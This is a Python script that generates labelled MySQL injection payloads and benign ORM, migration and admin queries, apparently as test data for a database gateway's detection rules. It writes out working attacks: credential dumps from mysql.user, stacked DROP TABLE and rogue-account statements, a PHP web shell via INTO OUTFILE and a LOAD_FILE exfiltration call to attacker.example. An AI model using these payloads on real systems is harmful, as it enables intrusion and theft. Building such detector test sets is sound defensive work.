#!/usr/bin/env python3
"""Builds mysql-attacks.txt and mysql-benign.txt: MySQL / MariaDB injection payloads in the
full-statement form the gateway sees, and ordinary MySQL-dialect ORM, migration and admin
traffic. Deterministic; the output is committed.

Attack lines: `mysql<TAB><rule family><TAB>sql`, the family being the rule id expected to
catch the payload (`sqli.tautology`...). Benign lines: `mysql<TAB><source><TAB>sql`. Newlines
in SQL are escaped as `\\n`, backslashes as `\\\\`.

Each payload is written once as the text an attacker types, then placed into application
statements: a numeric position (`... WHERE id = <here>`) and a quoted string position
(`... WHERE name = '<here>'`, the attacker closing the quote).
"""

import os

HERE = os.path.dirname(os.path.abspath(__file__))

# ---------------------------------------------------------------- attacks

NUM_CONTEXTS = [
    "SELECT * FROM products WHERE id = {}",
    "SELECT id, title, body FROM posts WHERE category_id = {} ORDER BY created_at DESC LIMIT 10",
    "SELECT `orders`.* FROM `orders` WHERE `orders`.`customer_id` = {} LIMIT 20",
    "UPDATE carts SET quantity = 2 WHERE id = {}",
]
STR_CONTEXTS = [
    "SELECT * FROM users WHERE username = '{}' AND password_hash = 'e3b0c44298fc'",
    "SELECT id, name, price FROM items WHERE name LIKE '%{}%' ORDER BY name",
    "SELECT * FROM accounts WHERE email = '{}' LIMIT 1",
]

# (family, numeric payload or None, string payload or None). A numeric payload follows a
# number (`1`); a string payload closes the quote the application opened and leaves the
# application's closing quote to be matched or commented out.
PAYLOADS = [
    # time-based
    ("sqli.time-delay", "1 AND SLEEP(5)", "x' AND SLEEP(5) AND 'a'='a"),
    ("sqli.time-delay", "1 AND BENCHMARK(5000000,MD5(0x41))", "x' AND BENCHMARK(5000000,SHA1(1))#"),
    ("sqli.time-delay", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)", "x' AND (SELECT 1 FROM (SELECT(SLEEP(5)))b)-- "),
    ("sqli.time-delay", "1 OR IF(1=1,SLEEP(5),0)", "x' OR IF(LENGTH(database())>3,SLEEP(5),0)#"),
    ("sqli.time-delay", "1 AND ELT(1=1,SLEEP(5))", "x' || SLEEP(5) || '"),
    ("sqli.time-delay", "1 RLIKE SLEEP(5)", "x' XOR SLEEP(5) XOR '"),
    ("sqli.time-delay", "(SELECT BENCHMARK(10000000,ENCODE('a','b')))", None),
    # file access
    ("sqli.file-access", "-1 UNION SELECT LOAD_FILE('/etc/passwd'),2,3", "x' UNION SELECT LOAD_FILE(0x2f6574632f706173737764),2,3-- "),
    ("sqli.file-access", "1 INTO OUTFILE '/var/www/html/s.php'", "x' INTO DUMPFILE '/tmp/x.so'#"),
    ("sqli.file-access", "1 AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT database()),'.attacker.example\\\\a'))", None),
    # error-based
    ("sqli.error-probe", "1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))", "x' AND EXTRACTVALUE(4512,CONCAT(0x5c,user()))#"),
    ("sqli.error-probe", "1 AND UPDATEXML(1,CONCAT(0x7e,database()),1)", "x' AND UPDATEXML(NULL,CONCAT(0x2e,(SELECT @@version)),NULL)-- -"),
    ("sqli.error-probe", "1 AND GTID_SUBSET(CONCAT(0x71,(SELECT user()),0x71),1)", "x' AND GTID_SUBTRACT((SELECT database()),1)#"),
    ("sqli.error-probe", "1 AND EXP(~(SELECT * FROM (SELECT user())x))", "x' OR EXP(~(SELECT * FROM (SELECT version())y))#"),
    ("sqli.error-probe", "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)", None),
    ("sqli.error-probe", "1 AND (SELECT * FROM (SELECT NAME_CONST(version(),1),NAME_CONST(version(),1))a)", None),
    # union-based
    ("sqli.union", "-1 UNION SELECT NULL,NULL,NULL", "x' UNION ALL SELECT NULL,NULL,NULL-- -"),
    ("sqli.union", "-1 UNION SELECT 1,@@version,3", "x' UNION SELECT 1,@@datadir,3#"),
    ("sqli.union", "-1 UNION ALL SELECT user(),database(),version()", "x' UNION SELECT current_user(),2,3-- "),
    ("sqli.union", "-1 UNION SELECT 1,2,3 ORDER BY 1", "x' UNION DISTINCT SELECT 'a','b','c'#"),
    # catalogue reads inside injection shapes
    ("sqli.catalog-probe", "-1 UNION SELECT table_name,2,3 FROM information_schema.tables WHERE table_schema=database()", "x' UNION SELECT column_name,2,3 FROM information_schema.columns WHERE table_name='users'#"),
    ("sqli.catalog-probe", "1 AND (SELECT COUNT(*) FROM information_schema.schemata)>0", "x' AND (SELECT COUNT(*) FROM mysql.db)>0#"),
    ("sqli.catalog-probe", "-1 UNION SELECT user,authentication_string,host FROM mysql.user", "x' UNION SELECT GROUP_CONCAT(user,0x3a,password),2,3 FROM mysql.user-- "),
    ("sqli.catalog-probe", "1 AND (SELECT schema_name FROM information_schema.schemata LIMIT 1,1) LIKE 'a%'", None),
    ("sqli.catalog-probe", "(SELECT COUNT(*) FROM performance_schema.threads)", None),
    # conditions on server facts
    ("sqli.server-probe", "1 AND SUBSTRING(version(),1,1)=5", "x' AND SUBSTRING(@@version,1,1)='1'#"),
    ("sqli.server-probe", "1 AND database() LIKE 'sh%'", "x' AND user() REGEXP '^root'#"),
    ("sqli.server-probe", "1 AND IF(SUBSTRING(version(),1,1)='5',1,0)", "x' AND @@innodb_version RLIKE '^10'-- "),
    ("sqli.server-probe", "1 AND LENGTH(database())=4", "x' AND MID(current_user(),1,4)='root'#"),
    # constant conditions, MySQL spellings
    ("sqli.tautology", "1 || 1=1", "x' || 'b'='b"),
    ("sqli.tautology", "1 && 2=2", "x' && 'a'='a"),
    ("sqli.tautology", "1 XOR 1=1", "x' XOR 'a'='a"),
    ("sqli.tautology", "1 OR !0", "x' || !0#"),
    ("sqli.tautology", "1 AND 1<=>1", "x' OR 'a'<=>'a"),
    ("sqli.tautology", "1 OR 2 DIV 1 = 2", "x' OR 4 DIV 2=2#"),
    ("sqli.tautology", "1 OR 'a' LIKE 'a'", "x' OR 'abc' LIKE 'a%"),
    ("sqli.tautology", "1 OR 'a' RLIKE 'a'", "x' OR 'a' REGEXP '^a"),
    ("sqli.tautology", "1 OR 0x31=0x31", "x' OR X'61'=X'61'#"),
    ("sqli.tautology", "1 OR b'1'=b'1'", "x' OR b'01'=b'01'-- "),
    ("sqli.tautology", "1 OR 1", "x' OR 1#"),
    ("sqli.tautology", "1 || TRUE", "x' || TRUE#"),
    ("sqli.tautology", "1 AND 1 IN (1)", "x' OR 'a' IN ('a')#"),
    ("sqli.tautology", "1 AND (SELECT 1 FROM DUAL WHERE 1=1)", "x' AND 'a' SOUNDS LIKE 'a"),
    ("sqli.tautology", "1 OR 3>2", "x\\\\' OR 1=1#"),
    ("sqli.tautology", "1 AND MAKE_SET(4821=4821,1)", "x' OR _utf8mb4'a'=_utf8mb4'a"),
    # blind extraction
    ("sqli.blind-extraction", "1 AND ORD(MID((SELECT IFNULL(CAST(username AS NCHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64", "x' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>100#"),
    ("sqli.blind-extraction", "1 AND ASCII(SUBSTR((SELECT email FROM users LIMIT 1),2,1))=97", None),
    # encoded strings
    ("sqli.encoded-string", "1 AND username=0x61646d696e", "x' OR username=0x726f6f74#"),
    ("sqli.encoded-string", "1 AND role=0x61646d696e6973747261746f72", "x' AND password_hash=0x6531306164633339343962613539616262653536653035376632306638383365#"),
    # comment obfuscation
    ("sqli.comment-obfuscation", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3", "x'/*!50000UNION*//*!50000SELECT*/1,2,3#"),
    ("sqli.comment-obfuscation", "1/**/UNION/**/SELECT/**/1,2,3", "x'/**/OR/**/1=1#"),
    ("sqli.comment-obfuscation", "1 /*M!100000 UNION SELECT 1,2,3 */", "x' /*!OR*/ 'a'='a"),
    ("sqli.comment-obfuscation", "1 /*!12345AND*/ 1=1", None),
    # comment truncation
    ("sqli.comment-truncation", None, "admin'-- "),
    ("sqli.comment-truncation", None, "admin'#"),
    ("sqli.comment-truncation", None, "admin')-- -"),
    ("sqli.comment-truncation", None, "admin' LIMIT 1#"),
    # stacked
    ("sqli.stacked", "1; DROP TABLE users", "x'; DROP TABLE users; -- "),
    ("sqli.stacked", "1; INSERT INTO admins (user) VALUES ('eve')", "x'; UPDATE users SET role='admin' WHERE id=1#"),
    ("sqli.stacked", "1; SELECT SLEEP(5)", None),
]

# Whole statements that do not fit a placeholder.
WHOLE = [
    ("sqli.time-delay", "SELECT BENCHMARK(1000000, MD5('a'))"),
    ("sqli.time-delay", "SELECT BENCHMARK(50000000, SHA2('x', 512))"),
    ("sqli.time-delay", "SELECT BENCHMARK(1, SLEEP(5))"),
    ("sqli.catalog-probe", "SELECT user, authentication_string FROM mysql.user"),
    ("sqli.catalog-probe", "SELECT `User`, `Host`, `authentication_string` FROM `mysql`.`user`"),
    ("sqli.catalog-probe", "SELECT * FROM mysql.user"),
    ("sqli.catalog-probe", "SELECT host, user, password FROM mysql.user WHERE user = 'root'"),
    ("sqli.catalog-probe", "SELECT * FROM mysql.global_priv"),
    ("sqli.catalog-probe", "SELECT user, JSON_EXTRACT(priv, '$.authentication_string') FROM mysql.global_priv"),
    ("sqli.catalog-probe", "SELECT name FROM products WHERE id = (SELECT COUNT(*) FROM mysql.user)"),
    ("sqli.catalog-probe", "SELECT p.name, t.table_name FROM products p JOIN information_schema.tables t ON t.table_rows = p.id"),
    ("sqli.tautology", "SELECT * FROM items WHERE name = 'a' || 'b'='b'"),
    ("sqli.tautology", "SELECT * FROM users WHERE name = 'it\\'s' OR 'x'='x'"),
    ("sqli.tautology", "SELECT * FROM users WHERE name = 'a\\\\' OR 1=1 -- '"),
    ("sqli.tautology", "DELETE FROM sessions WHERE token = '' OR ''=''"),
    ("sqli.tautology", "SELECT * FROM `users` WHERE `login` = 'x' OR `login` IS NOT NULL OR 5=5"),
    ("sqli.comment-obfuscation", "SELECT * FROM users WHERE id = 1 /*!50000 UNION SELECT user, authentication_string FROM mysql.user */"),
    ("sqli.comment-obfuscation", "SELECT * FROM users WHERE id = 1 /*!50000OR*/ 1=1"),
    ("sqli.stacked", "SELECT * FROM users WHERE id = 1; SHOW GRANTS"),
    ("sqli.stacked", "SELECT * FROM users WHERE id = 1; CREATE USER 'eve'@'%' IDENTIFIED BY 'x'; GRANT ALL ON *.* TO 'eve'@'%'"),
    ("sqli.file-access", "SELECT '<?php eval($_POST[1]); ?>' INTO OUTFILE '/var/www/html/c.php'"),
    ("sqli.file-access", "SELECT * FROM users INTO DUMPFILE '/tmp/u.bin'"),
    ("sqli.union", "SELECT id, title FROM posts WHERE id = -1 UNION SELECT @@hostname, @@version_compile_os"),
    ("sqli.catalog-probe", "SELECT * FROM posts WHERE id = 1 AND (SELECT COUNT(*) FROM information_schema.tables WHERE table_schema = 'mysql') > 10"),
    ("sqli.server-probe", "SELECT * FROM posts WHERE id = 1 AND (SELECT @@version) LIKE '10.%'"),
]


def attacks():
    out = []
    seen = set()

    def add(fam, sql):
        if sql not in seen:
            seen.add(sql)
            out.append((fam, sql))

    for i, (fam, num, s) in enumerate(PAYLOADS):
        # Two numeric and two string placements per payload, rotating through the contexts.
        if num is not None:
            # An UPDATE cannot take a UNION: MySQL refuses the statement outright.
            ctxs = [c for c in NUM_CONTEXTS if "UNION" not in num or not c.startswith("UPDATE")]
            for k in range(2):
                add(fam, ctxs[(i + k) % len(ctxs)].format(num))
        if s is not None:
            for k in range(2):
                add(fam, STR_CONTEXTS[(i + k) % len(STR_CONTEXTS)].format(s))
    for fam, sql in WHOLE:
        add(fam, sql)
    return out


# ---------------------------------------------------------------- benign

MODELS = [
    ("users", ["id", "email", "name", "password_hash", "created_at", "updated_at"]),
    ("posts", ["id", "user_id", "title", "body", "published_at", "status"]),
    ("orders", ["id", "customer_id", "total_cents", "currency", "state", "created_at"]),
    ("products", ["id", "sku", "name", "price", "stock", "category_id"]),
    ("comments", ["id", "post_id", "author", "content", "created_at", "approved"]),
]


def django(t, cols):
    tt = "app_" + t
    q = lambda c: "`%s`.`%s`" % (tt, c)  # noqa: E731
    sel = ", ".join(q(c) for c in cols)
    return [
        "SELECT %s FROM `%s` WHERE %s = 42 LIMIT 21" % (sel, tt, q("id")),
        "SELECT %s FROM `%s` ORDER BY %s DESC LIMIT 20 OFFSET 40" % (sel, tt, q(cols[1])),
        "SELECT COUNT(*) AS `__count` FROM `%s`" % tt,
        "SELECT %s FROM `%s` WHERE %s IN (1, 2, 3)" % (sel, tt, q("id")),
        "SELECT 1 AS `a` FROM `%s` WHERE %s = 'it\\'s a test' LIMIT 1" % (tt, q(cols[2])),
        "INSERT INTO `%s` (%s) VALUES (%s)"
        % (tt, ", ".join("`%s`" % c for c in cols[1:]), ", ".join("'v%d'" % i for i in range(len(cols) - 1))),
        "UPDATE `%s` SET `%s` = 'C:\\\\temp\\\\x' WHERE %s = 7" % (tt, cols[2], q("id")),
        "DELETE FROM `%s` WHERE %s IN (3, 4)" % (tt, q("id")),
        "SELECT %s FROM `%s` WHERE %s LIKE BINARY '%%foo\\\\_bar%%' LIMIT 21" % (sel, tt, q(cols[2])),
    ]


def rails(t, cols):
    return [
        "SELECT `%s`.* FROM `%s` WHERE `%s`.`id` = 1 LIMIT 1" % (t, t, t),
        "SELECT `%s`.* FROM `%s` WHERE `%s`.`%s` = 'a#b -- c' ORDER BY `%s`.`id` ASC LIMIT 1" % (t, t, t, cols[2], t),
        "SELECT COUNT(*) FROM `%s` WHERE `%s`.`%s` IS NULL" % (t, t, cols[3]),
        "SELECT 1 AS one FROM `%s` WHERE `%s`.`%s` = BINARY 'x' LIMIT 1" % (t, t, cols[1]),
        "INSERT INTO `%s` (`%s`, `created_at`) VALUES ('O\\'Reilly', '2024-05-01 10:00:00')" % (t, cols[2]),
        "UPDATE `%s` SET `%s`.`updated_at` = '2024-05-01 10:00:00' WHERE `%s`.`id` = 9" % (t, t, t),
        "SELECT `%s`.* FROM `%s` WHERE `%s`.`id` IN (4, 8, 15, 16, 23, 42)" % (t, t, t),
        "SELECT `%s`.* FROM `%s` WHERE 1=0" % (t, t),
    ]


def laravel(t, cols):
    return [
        "select * from `%s` where `%s` = 'ann@example.com' and `%s`.`deleted_at` is null limit 1" % (t, cols[1], t),
        "select count(*) as aggregate from `%s` where `%s` > 100" % (t, cols[3]),
        "select * from `%s` where `id` in (1, 2, 3) and 0 = 1" % t,
        "insert into `%s` (`%s`, `%s`) values ('a', 'b')" % (t, cols[1], cols[2]),
        "update `%s` set `%s` = 'x', `updated_at` = '2024-06-01 12:00:00' where `id` = 5" % (t, cols[2]),
        "select exists(select * from `%s` where `%s` = 'z') as `exists`" % (t, cols[1]),
    ]


def hibernate(t, cols):
    a = t[0] + "1_0"
    sel = ",".join("%s.%s" % (a, c) for c in cols)
    return [
        "select %s from %s %s where %s.id=?" % (sel, t, a, a),
        "select %s from %s %s where %s.%s like ? escape '\\\\' order by %s.id limit ?, ?" % (sel, t, a, a, cols[2], a),
        "select count(%s.id) from %s %s" % (a, t, a),
        "insert into %s (%s) values (%s)" % (t, ",".join(cols[1:]), ",".join("?" for _ in cols[1:])),
        "update %s set %s=? where id=?" % (t, cols[2]),
    ]


def sqlalchemy(t, cols):
    sel = ", ".join("%s.%s" % (t, c) for c in cols)
    return [
        "SELECT %s \nFROM %s \nWHERE %s.id = 12" % (sel, t, t),
        "SELECT %s \nFROM %s \nWHERE %s.%s = 'x' \n LIMIT 10, 10" % (sel, t, t, cols[2]),
        "SELECT count(*) AS count_1 \nFROM (SELECT %s.id AS %s_id \nFROM %s) AS anon_1" % (t, t, t),
        "INSERT INTO %s (%s, %s) VALUES ('a', 'b')" % (t, cols[1], cols[2]),
    ]


LITERAL = [
    # migrations and schema tools
    ("django-migrate", "SELECT table_name, table_type FROM information_schema.tables WHERE table_schema = DATABASE()"),
    ("django-migrate", "SELECT column_name, data_type, character_maximum_length, numeric_precision, numeric_scale, extra, column_default, collation_name, column_comment FROM information_schema.columns WHERE table_name = 'app_users' AND table_schema = DATABASE()"),
    ("django-migrate", "SELECT kc.constraint_name, kc.column_name, kc.referenced_table_name, kc.referenced_column_name, c.constraint_type FROM information_schema.key_column_usage AS kc, information_schema.table_constraints AS c WHERE kc.table_schema = DATABASE() AND c.table_schema = kc.table_schema AND c.constraint_name = kc.constraint_name AND c.constraint_type != 'CHECK' AND kc.table_name = 'app_users' ORDER BY kc.ordinal_position"),
    ("django-migrate", "SELECT engine FROM information_schema.tables WHERE table_name = 'app_users' AND table_schema = DATABASE()"),
    ("django-migrate", "SELECT `django_migrations`.`id`, `django_migrations`.`app`, `django_migrations`.`name`, `django_migrations`.`applied` FROM `django_migrations`"),
    ("django-migrate", "CREATE TABLE `django_migrations` (`id` bigint AUTO_INCREMENT NOT NULL PRIMARY KEY, `app` varchar(255) NOT NULL, `name` varchar(255) NOT NULL, `applied` datetime(6) NOT NULL)"),
    ("django-migrate", "SELECT @@sql_mode"),
    ("django-migrate", "SELECT VERSION()"),
    ("django-migrate", "SELECT @@default_storage_engine"),
    ("rails-migrate", "SELECT table_name FROM information_schema.tables WHERE table_schema = database() AND table_name = 'schema_migrations' AND table_type = 'BASE TABLE'"),
    ("rails-migrate", "SELECT `schema_migrations`.`version` FROM `schema_migrations` ORDER BY `schema_migrations`.`version` ASC"),
    ("rails-migrate", "SELECT GET_LOCK('7019286352291043850', 0)"),
    ("rails-migrate", "SELECT RELEASE_LOCK('7019286352291043850')"),
    ("rails-migrate", "SHOW FULL FIELDS FROM `users`"),
    ("rails-migrate", "SHOW KEYS FROM `users`"),
    ("rails-migrate", "SHOW CREATE TABLE `users`"),
    ("rails-migrate", "SELECT fk.referenced_table_name AS 'to_table', fk.referenced_column_name AS 'primary_key', fk.column_name AS 'column', fk.constraint_name AS 'name', rc.update_rule AS 'on_update', rc.delete_rule AS 'on_delete' FROM information_schema.referential_constraints rc JOIN information_schema.key_column_usage fk USING (constraint_schema, constraint_name) WHERE fk.referenced_column_name IS NOT NULL AND fk.table_schema = database() AND fk.table_name = 'posts' AND rc.constraint_schema = database() AND rc.table_name = 'posts'"),
    ("rails-migrate", "ALTER TABLE `posts` ADD `slug` varchar(255), ADD INDEX `index_posts_on_slug` (`slug`)"),
    ("laravel-migrate", "select table_name as `name`, (data_length + index_length) as `size`, table_comment as `comment`, engine as `engine`, table_collation as `collation` from information_schema.tables where table_schema = 'shop' and table_type in ('BASE TABLE', 'SYSTEM VERSIONED') order by table_name"),
    ("laravel-migrate", "select column_name as `name`, data_type as `type_name`, column_type as `type`, collation_name as `collation`, is_nullable as `nullable`, column_default as `default`, column_comment as `comment`, generation_expression as `expression`, extra as `extra` from information_schema.columns where table_schema = 'shop' and table_name = 'users' order by ordinal_position asc"),
    ("laravel-migrate", "select max(`batch`) as aggregate from `migrations`"),
    ("laravel-migrate", "insert into `migrations` (`migration`, `batch`) values ('2024_01_01_000000_create_users_table', 1)"),
    ("laravel-migrate", "create table `users` (`id` bigint unsigned not null auto_increment primary key, `name` varchar(255) not null, `email` varchar(255) not null) default character set utf8mb4 collate 'utf8mb4_unicode_ci'"),
    ("laravel-migrate", "alter table `users` add unique `users_email_unique`(`email`)"),
    ("hibernate-validate", "select TABLE_CATALOG, TABLE_SCHEMA, TABLE_NAME, TABLE_TYPE, TABLE_COMMENT from information_schema.TABLES where TABLE_SCHEMA = 'shop'"),
    ("hibernate-validate", "SELECT TABLE_SCHEMA AS TABLE_CAT, NULL AS TABLE_SCHEM, TABLE_NAME, COLUMN_NAME, DATA_TYPE FROM INFORMATION_SCHEMA.COLUMNS WHERE TABLE_SCHEMA = 'shop' AND TABLE_NAME LIKE 'users' ORDER BY TABLE_SCHEMA, TABLE_NAME, ORDINAL_POSITION"),
    ("hibernate-validate", "select next_val as id_val from users_seq for update"),
    ("hibernate-validate", "update users_seq set next_val= ? where next_val=?"),
    ("alembic", "SELECT alembic_version.version_num \nFROM alembic_version"),
    ("alembic", "UPDATE alembic_version SET version_num='a1b2c3d4e5f6' WHERE alembic_version.version_num = '0f1e2d3c4b5a'"),
    ("alembic", "SELECT COUNT(*) FROM information_schema.tables WHERE table_schema = 'shop' AND table_name = 'alembic_version'"),
    ("alembic", "SELECT CAST('test plain returns' AS CHAR(60)) AS anon_1"),
    ("alembic", "SELECT CAST('test unicode returns' AS CHAR(60)) AS anon_1"),
    ("flyway", "SELECT GET_LOCK('flyway-1234567', 10)"),
    ("flyway", "SELECT `installed_rank`,`version`,`description`,`type`,`script`,`checksum`,`installed_on`,`installed_by`,`execution_time`,`success` FROM `shop`.`flyway_schema_history` WHERE `installed_rank` > -1 ORDER BY `installed_rank`"),
    ("flyway", "SELECT SUM(found) FROM ((SELECT 1 as found FROM information_schema.tables WHERE table_schema='shop') UNION ALL (SELECT 1 as found FROM information_schema.views WHERE table_schema='shop' LIMIT 1) UNION ALL (SELECT 1 as found FROM information_schema.table_constraints WHERE table_schema='shop' LIMIT 1)) as all_found"),
    ("liquibase", "SELECT COUNT(*) FROM shop.DATABASECHANGELOGLOCK"),
    ("liquibase", "UPDATE shop.DATABASECHANGELOGLOCK SET `LOCKED` = 1, LOCKEDBY = 'host (10.0.0.5)', LOCKGRANTED = NOW() WHERE ID = 1 AND `LOCKED` = 0"),
    ("gh-ost", "select @@global.port, @@global.hostname"),
    ("gh-ost", "show /* gh-ost */ table status from `shop` like 'users'"),
    ("prisma", "SELECT `shop`.`User`.`id`, `shop`.`User`.`email` FROM `shop`.`User` WHERE (`shop`.`User`.`email` = ? AND 1=1) LIMIT ? OFFSET ?"),
    ("prisma", "SELECT table_name AS table_name FROM information_schema.tables WHERE table_schema = ? ORDER BY BINARY table_name"),
    # session set-up and admin
    ("session", "SET NAMES utf8mb4"),
    ("session", "SET NAMES utf8mb4 COLLATE utf8mb4_unicode_ci"),
    ("session", "SET autocommit=0"),
    ("session", "SET autocommit=1"),
    ("session", "SET SESSION TRANSACTION ISOLATION LEVEL READ COMMITTED"),
    ("session", "SET time_zone = '+00:00'"),
    ("session", "SET SESSION sql_mode = CONCAT(@@sql_mode, ',STRICT_TRANS_TABLES')"),
    ("session", "SELECT @@session.transaction_isolation"),
    ("session", "SELECT @@max_allowed_packet"),
    ("session", "SELECT DATABASE()"),
    ("session", "SELECT CONNECTION_ID()"),
    ("session", "SELECT 1"),
    ("session", "/* ping */ SELECT 1"),
    ("session", "SELECT NOW(6)"),
    ("transaction", "START TRANSACTION"),
    ("transaction", "START TRANSACTION READ ONLY"),
    ("transaction", "BEGIN"),
    ("transaction", "COMMIT"),
    ("transaction", "ROLLBACK"),
    ("transaction", "SAVEPOINT s1_x1"),
    ("transaction", "ROLLBACK TO SAVEPOINT s1_x1"),
    ("transaction", "RELEASE SAVEPOINT s1_x1"),
    ("transaction", "XA START 'trx1'"),
    ("show", "SHOW TABLES"),
    ("show", "SHOW DATABASES"),
    ("show", "SHOW FULL TABLES WHERE Table_type = 'BASE TABLE'"),
    ("show", "SHOW VARIABLES LIKE 'lower_case_table_names'"),
    ("show", "SHOW VARIABLES WHERE Variable_name = 'version'"),
    ("show", "SHOW STATUS LIKE 'Threads_connected'"),
    ("show", "SHOW INDEX FROM `orders`"),
    ("show", "SHOW COLUMNS FROM `orders` LIKE 'state'"),
    ("show", "SHOW WARNINGS"),
    ("show", "SHOW ENGINE INNODB STATUS"),
    ("show", "SHOW GRANTS FOR CURRENT_USER()"),
    ("show", "SHOW PROCESSLIST"),
    ("admin", "SELECT user, host FROM mysql.user WHERE account_locked = 'Y'"),
    ("admin", "SELECT COUNT(*) FROM mysql.user"),
    ("admin", "SELECT Time_zone_id FROM mysql.time_zone_name WHERE Name = 'Europe/Paris'"),
    ("admin", "SELECT table_schema, SUM(data_length + index_length) / 1024 / 1024 AS mb FROM information_schema.tables GROUP BY table_schema"),
    ("admin", "SELECT * FROM information_schema.processlist WHERE command != 'Sleep' ORDER BY time DESC"),
    ("admin", "SELECT * FROM performance_schema.events_statements_summary_by_digest ORDER BY sum_timer_wait DESC LIMIT 10"),
    ("admin", "SELECT SLEEP(1)"),
    ("admin", "EXPLAIN SELECT * FROM orders WHERE customer_id = 5"),
    ("admin", "ANALYZE TABLE `orders`"),
    ("admin", "OPTIMIZE TABLE `orders`"),
    ("admin", "KILL QUERY 1234"),
    # JSON and MySQL functions
    ("json", "SELECT id, JSON_EXTRACT(payload, '$.user.id') AS uid FROM events WHERE JSON_CONTAINS(tags, '\"billing\"')"),
    ("json", "SELECT id, payload->>'$.type' AS kind FROM events WHERE payload->'$.amount' > 100"),
    ("json", "UPDATE settings SET data = JSON_SET(data, '$.theme', 'dark') WHERE user_id = 3"),
    ("json", "SELECT JSON_ARRAYAGG(JSON_OBJECT('id', id, 'name', name)) FROM products WHERE category_id = 2"),
    ("json", "SELECT * FROM events WHERE JSON_UNQUOTE(JSON_EXTRACT(payload, '$.ip')) = '10.0.0.1'"),
    ("json", "SELECT id FROM docs WHERE MATCH(title, body) AGAINST ('+mysql -oracle' IN BOOLEAN MODE)"),
    ("json", "SELECT DATE_FORMAT(created_at, '%Y-%m') AS month, COUNT(*) FROM orders GROUP BY month ORDER BY month"),
    ("json", "SELECT IFNULL(nickname, name) AS display, IF(active, 'yes', 'no') AS act FROM users WHERE id = 8"),
    ("json", "SELECT GROUP_CONCAT(DISTINCT tag ORDER BY tag SEPARATOR ',') FROM post_tags WHERE post_id = 4"),
    ("json", "SELECT CONCAT_WS(' ', first_name, last_name) AS full_name FROM contacts WHERE id = 77"),
    ("json", "SELECT * FROM products WHERE name REGEXP '^[A-Z]{3}-[0-9]+$' AND stock > 0"),
    ("json", "SELECT * FROM logs WHERE created_at > NOW() - INTERVAL 1 DAY ORDER BY id DESC LIMIT 100"),
    ("json", "SELECT id, price DIV 100 AS euros, price MOD 100 AS cents FROM products WHERE id = 3"),
    ("json", "SELECT * FROM users WHERE deleted_at <=> NULL AND email = 'a@b.example'"),
    ("json", "SELECT UUID(), UNIX_TIMESTAMP(), CURRENT_TIMESTAMP"),
    ("json", "SELECT HEX(id), UNHEX('0a1b') FROM blobs WHERE id = 0x0a1b"),
    ("json", "SELECT id FROM files WHERE checksum = X'9f86d081884c7d65'"),
    ("json", "SELECT id FROM flags WHERE bits & b'0101' = b'0101'"),
    ("json", "SELECT CAST(price AS DECIMAL(10,2)) FROM products WHERE id = 1"),
    ("json", "SELECT CONVERT(name USING utf8mb4) FROM products WHERE id = 1"),
    # upserts
    ("upsert", "INSERT INTO counters (name, hits) VALUES ('home', 1) ON DUPLICATE KEY UPDATE hits = hits + 1"),
    ("upsert", "INSERT INTO `settings` (`key`, `value`) VALUES ('theme', 'dark') ON DUPLICATE KEY UPDATE `value` = VALUES(`value`)"),
    ("upsert", "INSERT INTO stock (sku, qty) VALUES ('A-1', 5) AS new ON DUPLICATE KEY UPDATE qty = stock.qty + new.qty"),
    ("upsert", "REPLACE INTO cache (k, v, expires_at) VALUES ('user:1', '{\"name\":\"ann\"}', '2024-07-01 00:00:00')"),
    ("upsert", "INSERT IGNORE INTO tags (name) VALUES ('mysql'), ('mariadb')"),
    ("upsert", "INSERT INTO audit (actor, action) SELECT 'system', 'cleanup' FROM DUAL WHERE NOT EXISTS (SELECT 1 FROM audit WHERE action = 'cleanup')"),
    ("upsert", "INSERT INTO users (email, name) SELECT email, name FROM staging_users WHERE imported = 0"),
    ("upsert", "UPDATE orders o JOIN customers c ON c.id = o.customer_id SET o.region = c.region WHERE o.region IS NULL"),
    ("upsert", "DELETE o FROM orders o LEFT JOIN customers c ON c.id = o.customer_id WHERE c.id IS NULL"),
    ("upsert", "SELECT * FROM jobs WHERE state = 'queued' ORDER BY id LIMIT 10 FOR UPDATE SKIP LOCKED"),
    ("upsert", "LOCK TABLES `orders` WRITE"),
    ("upsert", "UNLOCK TABLES"),
    # strings that look like SQL or comments, with MySQL escapes
    ("strings", "INSERT INTO notes (body) VALUES ('it\\'s fine -- really')"),
    ("strings", "INSERT INTO notes (body) VALUES ('path C:\\\\Users\\\\ann\\\\ # not a comment')"),
    ("strings", "SELECT * FROM notes WHERE body = 'a\\\\' AND id = 3"),
    ("strings", "INSERT INTO posts (title, body) VALUES ('Tips: use OR 1=1?', 'SELECT * FROM x WHERE 1=1; -- comment')"),
    ("strings", "UPDATE users SET bio = 'I\\'m a \"dev\" /* not a comment */' WHERE id = 4"),
    ("strings", "SELECT * FROM tickets WHERE subject = 'Re: issue #42' AND status = 'open'"),
    ("strings", "SELECT * FROM products WHERE name = 'Rock \\'n\\' Roll' OR sku = 'RNR-1'"),
    ("strings", "INSERT INTO messages (body) VALUES ('line1\\nline2\\ttabbed \\\\ backslash')"),
    ("strings", "SELECT * FROM users WHERE name = \"O'Brien\" AND active = 1"),
    ("strings", "SELECT * FROM wiki WHERE body LIKE '%\\\\%%' ESCAPE '\\\\'"),
    ("strings", "INSERT INTO snippets (code) VALUES ('x = a || b && !c;')"),
    ("strings", "INSERT INTO snippets (code) VALUES ('/*!50000 just text */ and 0x41414141')"),
    ("strings", "SELECT id FROM docs WHERE title = 'information_schema tutorial'"),
    ("strings", "SELECT id FROM docs WHERE body LIKE '%SLEEP(5)%' OR title LIKE '%BENCHMARK%'"),
    # hard negatives: app conditions with MySQL operators
    ("hard-negative", "SELECT * FROM users WHERE active = 1 && email_verified = 1"),
    ("hard-negative", "SELECT * FROM users WHERE role = 'admin' || role = 'owner'"),
    ("hard-negative", "SELECT * FROM items WHERE NOT archived AND !hidden"),
    ("hard-negative", "SELECT * FROM items WHERE is_public XOR is_draft"),
    ("hard-negative", "SELECT * FROM items WHERE parent_id <=> 5"),
    ("hard-negative", "SELECT * FROM items WHERE name RLIKE '^[a-z]+' AND id > 10"),
